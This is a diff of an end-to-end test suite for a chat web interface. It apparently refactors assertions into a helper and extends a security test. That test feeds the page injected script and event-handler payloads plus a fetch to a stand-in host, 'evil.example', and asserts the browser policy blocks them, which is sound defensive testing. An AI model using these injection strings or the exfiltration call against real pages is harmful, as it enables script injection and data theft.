@@ -71,9 +71,9 @@ def test_stop_keeps_the_text_and_ends_the_work(site: Site) -> None:
     expect(user.answer).to_have_text("A part of the")
     user.find("#input").press("Escape")
     assert site.script.gone.wait(5), "the server was not told"
-    expect(user.find(".note")).to_contain_text("Stopped.")
+    expect(user.note).to_contain_text("Stopped.")
     user.reload()
-    assert user.said == ["Hello", "A part of the"]
+    user.sees("Hello", "A part of the")
     user.button("Go on with this answer").click()
     expect(user.answer).to_have_text("A part of the whole.")
     assert site.request["messages"][-1] == {"role": "assistant", "content": "A part of the"}
@@ -90,11 +90,11 @@ def test_another_answer_stands_beside_the_old_one(site: Site) -> None:
     user.button("Previous version").press("Enter")
     expect(user.answer).to_have_text("Blue.")
     user.reload()
-    assert user.said == ["A colour?", "Blue."]
+    user.sees("A colour?", "Blue.")
     user.ask("Why?")
     assert [message["content"] for message in site.request["messages"]] == ["A colour?", "Blue.", "Why?"]
     user.button("Next version").click()
-    assert user.said == ["A colour?", "Red."], "the other branch has no second turn"
+    user.sees("A colour?", "Red.")
 
 
 def test_an_edit_makes_a_branch(site: Site) -> None:
@@ -112,10 +112,11 @@ def test_an_edit_makes_a_branch(site: Site) -> None:
     assert site.request["messages"] == [{"role": "user", "content": "Capital of Italy?"}]
     expect(user.find("#input")).to_be_focused()
     user.button("Previous version").click()
-    assert user.said == ["Capital of France?", "Paris."]
+    user.sees("Capital of France?", "Paris.")
     user.button("Edit").click()
     area.press("Escape")
-    assert user.said == ["Capital of France?", "Paris."] and len(site.script.requests) == 2
+    user.sees("Capital of France?", "Paris.")
+    assert len(site.script.requests) == 2
 
 
 def test_two_conversations_at_once(site: Site) -> None:
@@ -127,10 +128,11 @@ def test_two_conversations_at_once(site: Site) -> None:
     user.page.keyboard.press("Control+k")
     expect(user.find("#welcome")).to_be_visible()
     user.ask("The second")
-    assert user.said == ["The second", "Quick."] and user.titles == ["The second", "The first"]
+    user.sees("The second", "Quick.")
+    assert user.titles == ["The second", "The first"]
     gate.set()
     expect(user.find(".dot")).to_have_count(0)
-    assert user.said == ["The second", "Quick."]
+    user.sees("The second", "Quick.")
     user.button("The first").click()
     expect(user.answer).to_have_text("Slow but sure.")
     user.page.go_back()
@@ -213,14 +215,19 @@ def test_what_a_model_writes_is_inert(site: Site) -> None:
     assert user.page.evaluate("window.hacked") is None
 
 
-def test_the_policy_holds_where_the_page_does_not(site: Site) -> None:
+def test_the_policy_holds_where_the_sanitiser_would_not(site: Site) -> None:
     user = site.visit()
-    inline = "document.body.append(Object.assign(document.createElement('img'), {src: 'x'})); document.body.lastChild.setAttribute('onerror', 'window.hacked = 2')"
-    user.page.evaluate(inline)
-    with pytest.raises(Exception, match="TrustedHTML"):
-        user.page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
-    blocked = user.page.evaluate("fetch('https://evil.example').then(() => 'sent', () => 'blocked')")
-    assert blocked == "blocked" and user.page.evaluate("window.hacked") is None
+    for attack in (
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x>')",
+        "document.body.setAttribute('onclick', 'window.hacked = 1')",
+        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked = 1'}))",
+    ):
+        with pytest.raises(Exception, match="Trusted"):
+            user.page.evaluate(attack)
+    sent = "fetch('https://evil.example').then(() => 'sent', () => 'blocked')"
+    assert user.page.evaluate(sent) == "blocked"
+    assert user.page.evaluate("window.hacked") is None
+    assert all("Content Security Policy" in fault or "Trusted" in fault or "evil.example" in fault for fault in user.faults), user.faults
     user.faults.clear()
 
 
@@ -294,7 +301,7 @@ def test_by_keyboard_alone(site: Site) -> None:
     keys.press("Enter")
     expect(user.answer).to_have_text("Three")
     keys.press("Escape")
-    expect(user.find(".note").last).to_contain_text("Stopped.")
+    expect(user.note).to_contain_text("Stopped.")
     keys.press("Control+k")
     expect(user.find("#welcome")).to_be_visible()
     expect(user.find("#input")).to_be_focused()
@@ -306,10 +313,10 @@ def test_a_busy_server_is_asked_again(site: Site) -> None:
     site.script.answers += [[busy(1)], ["At last."]]
     user = site.visit()
     user.send("Hello")
-    expect(user.find(".note")).to_contain_text("Trying again in 1 s")
+    expect(user.note).to_contain_text("Trying again in 1 s")
     expect(user.answer).to_have_text("At last.")
     user.settled()
-    assert len(site.script.requests) == 2 and user.find(".note").inner_text() == ""
+    assert len(site.script.requests) == 2 and user.note.inner_text() == ""
 
 
 @pytest.mark.parametrize(
@@ -319,7 +326,7 @@ def test_an_error_in_the_middle_keeps_the_text(site: Site, fault: Exception, tol
     site.script.answers += [["Half ", 0.05, fault], ["Whole."]]
     user = site.visit()
     user.ask("Hello")
-    expect(user.find(".note")).to_contain_text(told)
+    expect(user.note).to_contain_text(told)
     expect(user.answer).to_have_text("Half")
     user.button("Try again").click()
     expect(user.answer).to_have_text("Whole.")
@@ -330,7 +337,7 @@ def test_a_full_window_is_the_users_choice(site: Site) -> None:
     site.script.answers += [[BadRequest("too long", code="context_length_exceeded")], ["Short."]]
     user = site.visit()
     user.ask("Hello")
-    expect(user.find(".note")).to_contain_text("too long")
+    expect(user.note).to_contain_text("too long")
     assert "truncation" not in site.request
     user.button("Leave the oldest messages out").click()
     expect(user.answer).to_have_text("Short.")
